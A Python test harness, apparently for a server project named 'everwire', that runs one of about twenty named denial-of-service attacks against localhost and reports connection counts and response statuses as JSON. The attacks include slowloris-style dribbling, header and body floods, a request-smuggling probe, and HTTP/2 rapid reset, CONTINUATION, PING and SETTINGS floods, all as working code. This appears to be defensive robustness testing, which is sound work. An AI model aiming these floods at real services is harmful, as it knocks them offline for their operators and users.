#!/usr/bin/env python3
"""One attack: `attacks.py NAME PORT SECONDS SOCKETS`. Says at the end what became of its connections, as JSON."""
import asyncio
import contextlib
import json
import os
import random
import socket
import struct
import sys
import time

import http2

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


class Target:
    """Where to, until when, and what came back."""

    def __init__(self, port, seconds):
        self.port, self.end = port, time.monotonic() + seconds
        self.opened = self.closed = self.sent = 0
        self.answers = {}

    @property
    def on(self):
        return time.monotonic() < self.end

    async def connect(self, receive=None):
        connection = socket.socket()
        if receive:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.setblocking(False)
        await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", self.port))
        self.opened += 1
        return Victim(self, await asyncio.open_connection(sock=connection, limit=1 << 16))


class Victim:
    """One connection."""

    def __init__(self, target, streams):
        self.target, (self.reader, self.writer) = target, streams

    async def send(self, data):
        self.writer.write(data)
        self.target.sent += len(data)
        await self.writer.drain()

    async def drip(self, data, pause=1.0):
        """A byte at a time, for as long as it is taken."""
        for byte in data:
            await self.send(bytes([byte]))
            await asyncio.sleep(pause)
            if not self.target.on or self.reader.at_eof():
                return

    async def status(self):
        """The next answer's status, or how the connection ended."""
        line = await asyncio.wait_for(self.reader.readline(), max(0.1, self.target.end - time.monotonic()))
        status = line.split()[1].decode() if line.startswith(b"HTTP/") else "end"
        self.target.answers[status] = self.target.answers.get(status, 0) + 1
        return status

    def abort(self):
        self.writer.transport.abort()


async def over_and_over(target, sockets, one):
    """`one(victim)` on so many connections, each made anew when it ends."""
    async def go():
        while target.on:
            victim = None
            try:
                victim = await target.connect()
                await asyncio.wait_for(one(victim), max(0.1, target.end - time.monotonic()))
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError):
                pass
            finally:
                if victim:
                    target.closed += target.on
                    victim.abort()
            await asyncio.sleep(0.005)
    await asyncio.gather(*(go() for _ in range(sockets)))


async def until_the_end(victim):
    """Reads and throws away."""
    with contextlib.suppress(OSError):
        while victim.target.on and await victim.reader.read(1 << 16):
            pass


HEAD = b"Host: a\r\nContent-Type: text/plain\r\n"


@attack
async def silence(target, sockets):
    """Connected, and not a byte."""
    await over_and_over(target, sockets, until_the_end)


@attack
async def slow_heads(target, sockets):
    async def one(victim):
        await victim.drip(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def slow_bodies(target, sockets):
    async def one(victim):
        await victim.send(b"POST /everwire/long_polling HTTP/1.1\r\n" + HEAD + b"Content-Length: 1000\r\n\r\n")
        await victim.drip(b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def huge_bodies(target, sockets):
    async def one(victim):
        length = random.choice([b"Content-Length: 1000000000000000", b"Transfer-Encoding: chunked"])
        await victim.send(b"POST /everwire/send HTTP/1.1\r\n" + HEAD + length + b"\r\n\r\n")
        chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
        for _ in range(64):
            await victim.send(chunk)
        await victim.status()
    await over_and_over(target, sockets, one)


@attack
async def upgrades_never_finished(target, sockets):
    async def one(victim):
        await victim.send(b"GET /everwire/websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                          b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
        await victim.status()
        await victim.drip(b"\x81\xfe\x03\xe8abcd" + b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def answers_never_read(target, sockets):
    requests = b"GET /client/everwire.js HTTP/1.1\r\nHost: a\r\n\r\n" * 100
    async def go():
        while target.on:
            victim = await target.connect(receive=4096)
            victim.writer.transport.pause_reading()
            victim.writer.write(requests)
            while target.on and not victim.writer.transport.is_closing():
                await asyncio.sleep(0.2)
            victim.abort()
    await asyncio.gather(*(go() for _ in range(sockets)))


@attack
async def bytes_one_by_one(target, sockets):
    async def one(victim):
        while True:
            await victim.drip(b"GET /stats HTTP/1.1\r\n" + HEAD + b"\r\n", 0)
            await victim.status()
            await victim.reader.readuntil(b"\r\n\r\n")
            await victim.reader.readuntil(b"}")
            await victim.reader.read(1 << 16)
    await over_and_over(target, sockets, one)


@attack
async def many_headers(target, sockets):
    async def one(victim):
        await victim.send(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: x\r\n" * 2000 + b"\r\n")
        await victim.status()
    await over_and_over(target, sockets, one)


@attack
async def garbage_behind_a_request(target, sockets):
    async def one(victim):
        await victim.send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" + os.urandom(2000))
        await until_the_end(victim)
    await over_and_over(target, sockets, one)


@attack
async def two_lengths(target, sockets):
    async def one(victim):
        await victim.send(b"POST /everwire/send HTTP/1.1\r\n" + HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                          b"0\r\n\r\nGET /stats HTTP/1.1\r\nHost: a\r\n\r\n")
        assert await victim.status() == "400"
    await over_and_over(target, sockets, one)


@attack
async def connections_at_once(target, sockets):
    """Made and reset, as fast as it goes."""
    linger = struct.pack("ii", 1, 0)
    async def go():
        while target.on:
            try:
                victim = await target.connect()
                victim.writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                victim.writer.write(b"GET / HTTP/1.1\r\nHo")
                victim.abort()
            except OSError:
                await asyncio.sleep(0.01)
    await asyncio.gather(*(go() for _ in range(sockets)))


async def in_http2(target, sockets, rounds, window=65535):
    """Sends what `rounds` gives, for as long as the server takes it."""
    async def one(victim):
        await victim.send(http2.settings(window=window))
        reading = asyncio.ensure_future(until_the_end(victim))
        for data in rounds():
            await victim.send(data)
            await asyncio.sleep(0)
            if reading.done() or not target.on:
                break
        await reading
    await over_and_over(target, max(1, sockets // 10), one)


@attack
async def h2_rapid_reset(target, sockets):
    def rounds():
        cancel = (8).to_bytes(4, "big")
        numbers = iter(http2.streams())
        while True:
            some = [next(numbers) for _ in range(100)]
            yield b"".join(http2.request(n) + http2.frame(http2.RST_STREAM, 0, n, cancel) for n in some)
    await in_http2(target, sockets, rounds)


@attack
async def h2_continuation_flood(target, sockets):
    def rounds():
        yield http2.frame(http2.HEADERS, 0, 1, http2.block())
        while True:
            yield http2.frame(http2.CONTINUATION, 0, 1, b"\0" + http2.text("x") + http2.text("y" * 100)) * 100
    await in_http2(target, sockets, rounds)


@attack
async def h2_empty_data(target, sockets):
    def rounds():
        yield http2.request(1, "POST", "/everwire/send", end=False)
        while True:
            yield http2.frame(http2.DATA, 0, 1) * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_window_zero(target, sockets):
    """Asks for much, and has no room for any of it."""
    async def one(victim):
        asks = b"".join(http2.request(n, path="/client/everwire.js") for n in range(1, 257, 2))
        await victim.send(http2.settings(window=0) + asks)
        reading = asyncio.ensure_future(until_the_end(victim))
        while victim.target.on and not reading.done():
            await victim.send(http2.frame(http2.PING, 0, 0, b"12345678"))
            await asyncio.sleep(0.1)
    await over_and_over(target, sockets, one)


@attack
async def h2_window_one(target, sockets):
    """Takes a byte of each answer, and then no more."""
    numbers = range(1, 257, 2)
    async def one(victim):
        asks = b"".join(http2.request(n, path="/client/everwire.js") for n in numbers)
        await victim.send(http2.settings(window=1) + asks)
        await until_the_end(victim)
    await over_and_over(target, sockets, one)


@attack
async def h2_pings(target, sockets):
    def rounds():
        while True:
            yield http2.frame(http2.PING, 0, 0, b"12345678") * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_settings(target, sockets):
    def rounds():
        while True:
            yield http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_slow_header_block(target, sockets):
    async def one(victim):
        await victim.send(http2.settings() + http2.frame(http2.HEADERS, 0, 1, http2.block()))
        await victim.drip(http2.frame(http2.CONTINUATION, 0, 1, b"x" * 1000))
    await over_and_over(target, sockets, one)


async def main(name, port, seconds, sockets):
    target = Target(int(port), float(seconds))
    try:
        await asyncio.wait_for(ATTACKS[name](target, int(sockets)), float(seconds) + 5)
    except asyncio.TimeoutError:
        pass
    print(json.dumps({"opened": target.opened, "closed": target.closed, "sent": target.sent, "answers": target.answers}))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
